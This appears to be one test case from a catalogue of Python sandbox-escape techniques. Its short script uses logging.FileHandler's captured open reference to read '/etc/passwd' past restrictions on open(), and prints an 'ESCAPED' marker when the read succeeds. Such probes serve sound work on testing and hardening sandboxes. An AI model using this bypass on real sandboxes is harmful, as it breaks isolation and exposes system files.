# escape: 035
# technique: FileHandler with a str-subclass mode/_builtin_open captured reference reads files
# family: dfile
# goal: read-file
# first-seen: variation (captured open in logging)
import logging
h = logging.FileHandler('/etc/passwd', 'r', delay=True)
s = h._builtin_open('/etc/passwd', 'r').readline() if hasattr(h, '_builtin_open') else h._open().readline()
if 'root:' in s: print('ESCAPED:FileHandler._open')
